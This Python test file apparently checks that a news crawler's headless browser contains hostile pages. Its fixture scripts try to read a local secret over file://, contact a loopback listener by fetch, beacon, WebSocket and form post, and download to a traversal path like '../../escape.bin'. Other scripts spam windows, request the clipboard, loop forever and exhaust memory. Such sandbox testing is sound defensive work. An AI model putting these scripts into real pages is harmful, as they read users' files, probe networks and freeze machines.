"""Pages in the browser that try to leave it: files, other hosts, sockets, windows, downloads, workers, scripts without end."""

from __future__ import annotations

import gzip
import json
from dataclasses import dataclass
from pathlib import Path

from archive.model.records import Run
from archive.storage.jsonl import ArticleLine
from faults import checks
from faults.catalogue import Need, Place, require, row
from faults.content.versions import article_of
from testing.ba_song_pages import html, listing
from testing.crawl import NIGHT, crawl, new_archive, the_night
from testing.http_server import HttpServer, NotificationServer, Reply, response

_CANARY = "canary-8d1f"
_FILL = """
fetch('/api' + location.pathname).then(answer => answer.json()).then(page => {
  document.getElementById('app').innerHTML = page.html;
  try { escape_here(); } catch (error) {}
});
"""


@dataclass(frozen=True, slots=True)
class RenderedNight:
    """Hold what a crawl with the browser left, and the heads of the requests that its portal got."""

    folder: Path
    run: Run
    articles: tuple[ArticleLine, ...]
    heads: tuple[str, ...]

    @property
    def texts(self) -> dict[str, str]:
        """The texts by their articles' keys."""
        return {line.key: (self.folder / line.file).read_text(encoding="utf-8") for line in self.articles if line.file}

    @property
    def captures(self) -> bytes:
        """The WARC files, unpacked."""
        return b"".join(gzip.decompress(path.read_bytes()) for path in sorted(self.folder.glob("*.warc.gz")))


def _rendered(place: Place, scripts: dict[str, str], *options: str) -> RenderedNight:
    """Crawl a portal of empty shells with the browser: each article's script fills it, then runs its own lines."""
    shell = '<div id="app"></div><script src="/{}.js"></script>'

    def data(page: bytes) -> bytes:
        main = page.decode().partition("<body>")[2].partition("</body>")[0]
        return response(json.dumps({"html": main}).encode(), kind="application/json; charset=utf-8")

    def script(more: str) -> bytes:
        return response(f"const escape_here = () => {{ {more} }};{_FILL}".encode(), kind="application/javascript")

    pages: dict[str, Reply] = {
        "/tin-tuc": response(html(shell.format("list"), "Vỏ Trống")),
        "/api/tin-tuc": data(listing(list(scripts))),
        "/list.js": script(""),
    }
    for key, more in scripts.items():
        text = [f"Xã An Bình {key} mở lớp học bơi thứ {part} cho trẻ em trong thôn." for part in range(4)]
        pages[f"/tin/{key}.html"] = response(html(shell.format(key), "Vỏ Trống"))
        pages[f"/api/tin/{key}.html"] = data(article_of(f"Xã An Bình {key} mở lớp", *text))
        pages[f"/{key}.js"] = script(more)
    root = new_archive(place.folder / "archive")
    with HttpServer(pages) as server:
        arguments = ("--archive", str(root), "--night", NIGHT.isoformat(), *options)
        done = crawl(*arguments, portal="vo_trong", port=server.port, RENDER="1")
    require(done.code in (0, 1) and "Traceback" not in done.err, f"exit code {done.code}: {done.err[-400:]}")
    checks.whole(root)
    run, _, articles = the_night(root, "vo_trong")
    return RenderedNight(root / f"{NIGHT:%Y/%m/%d}/vo_trong", run, tuple(articles), tuple(server.heads))


@row(
    "F1",
    "a page in the browser that asks for files and other hosts: fetch, frames, pictures, sockets, beacons",
    Need.BROWSER,
    weight=20,
)
def _f1(place: Place) -> str:
    secret = place.folder / "secret.html"
    secret.write_text(f"<p>{_CANARY}</p>", encoding="ascii")
    file = f"file://{secret}"
    with NotificationServer() as listener:
        there = f"http://127.0.0.1:{listener.port}"
        put = "text => document.querySelector('article').append(text)"
        scripts = {
            "tep": f"""fetch('{file}').then(a => a.text()).then({put}).catch(() => 0);
                const x = new XMLHttpRequest(); x.open('GET', '{file}'); x.onload = () => ({put})(x.responseText); x.send();""",
            "khung": f"""for (const [tag, name] of [['iframe', 'src'], ['embed', 'src'], ['object', 'data'], ['img', 'src'], ['video', 'src']])
                for (const url of ['{file}', '{there}/frame']) {{
                  const one = document.createElement(tag); one[name] = url; document.body.append(one); }}""",
            "may": f"""fetch('{there}/fetch', {{mode: 'no-cors'}}).catch(() => 0); navigator.sendBeacon('{there}/beacon', 'x');
                new EventSource('{there}/events'); import('{there}/module.js').catch(() => 0); fetch('{there}/keep', {{keepalive: true}});
                for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'stylesheet', 'preload']) {{
                  const link = document.createElement('link'); link.rel = rel; link.href = '{there}/' + rel; document.head.append(link); }}""",
            "oc": f"""new WebSocket('ws://127.0.0.1:{listener.port}/socket');
                const peer = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{listener.port}'}}]}});
                peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer));""",
            "bieu": f"""const form = document.createElement('form'); form.action = '{there}/form'; form.method = 'POST';
                document.body.append(form); form.submit();""",
            "di": f"location.href = '{there}/location';",
            "ve": f"location.href = '{file}';",
        }
        night = _rendered(place, scripts)
        require(not listener.requests, f"asked was {[request.path for request in listener.requests]}")
    texts = night.texts
    require(_CANARY not in "".join(texts.values()) and _CANARY.encode() not in night.captures, "the file was read")
    require(len(texts) >= len(scripts) - 2, f"kept are {sorted(texts)}: {night.run.outcomes}")
    require(
        not any("127.0.0.1" in head.partition("\r\n")[0] for head in night.heads), "the portal was asked for another's"
    )
    return f"{len(scripts)} pages, {len(texts)} kept as they were filled; no file read, the listener on loopback asked nothing"


@row("F2", "a page in the browser that opens windows, downloads, dialogs and workers", Need.BROWSER, weight=20)
def _f2(place: Place) -> str:
    with NotificationServer() as listener:
        there = f"http://127.0.0.1:{listener.port}"
        scripts = {
            "cua": f"for (let n = 0; n < 20; n++) {{ window.open('{there}/w' + n); window.open('about:blank'); window.open(location.href); }}",
            "tai": f"""for (const url of ['{there}/x.bin', 'data:application/octet-stream,x', '/tin/a.zip']) {{
                const link = document.createElement('a'); link.href = url; link.download = '../../escape.bin';
                document.body.append(link); link.click(); }}""",
            "hoi": "alert('x'); confirm('x'); prompt('x'); print(); onbeforeunload = event => event.preventDefault();",
            "tho": f"""navigator.serviceWorker && navigator.serviceWorker.register('/worker.js').catch(() => 0);
                new Worker(URL.createObjectURL(new Blob(["fetch('{there}/worker')"])));
                new SharedWorker('/worker.js'); Notification.requestPermission();
                navigator.geolocation.getCurrentPosition(() => 0); navigator.clipboard.readText().catch(() => 0);""",
        }
        before = {path.name for path in place.folder.iterdir()}
        night = _rendered(place, scripts)
        require(not listener.requests, f"asked was {[request.path for request in listener.requests]}")
    left = {path.name for path in place.folder.iterdir()} - before
    require(left == {"archive"}, f"left behind are {left}")
    require(set(night.texts) == set(scripts), f"kept are {sorted(night.texts)}: {night.run.outcomes}")
    asked = [head.split()[1] for head in night.heads]
    require("/tin/a.zip" not in asked, "a download was asked for")
    workers = asked.count("/worker.js")
    require(workers <= 1, f"a worker was asked for {workers} times")
    return (
        "every page read as it was filled; no window, download, dialog or worker reached anything or held the crawl up"
    )


@row(
    "F3", "a page in the browser whose scripts do not end, ask without end, or take all memory", Need.BROWSER, weight=40
)
def _f3(place: Place) -> str:
    scripts = {
        "vong": "for (;;) {}",
        "hoi": "const ask = n => fetch('/api/n' + n).finally(() => ask(n + 1)); for (let n = 0; n < 50; n++) ask(n * 1000);",
        "nho": "const all = []; for (let n = 0; n < 40; n++) all.push(new Uint8Array(1 << 26).fill(n)); window.all = all;",
        "lon": "for (let n = 0; n < 26; n++) document.getElementById('app').innerHTML += document.getElementById('app').innerHTML;",
        "lanh": "",
    }
    night = _rendered(place, scripts, "-s", "RENDER_TIMEOUT=8")
    require("lanh" in night.texts, f"kept are {sorted(night.texts)}: {night.run.outcomes}")
    most = sum(head.split()[1].startswith("/api/n") for head in night.heads)
    require(most <= 40, f"one page asked for {most} addresses")
    counted = f"{night.run.outcomes.get('article', 0)} read, {night.run.outcomes.get('app_shell', 0)} shells"
    return f"each costs its own time ({counted}; {most} requests of the page that asks without end); the page after them is read"
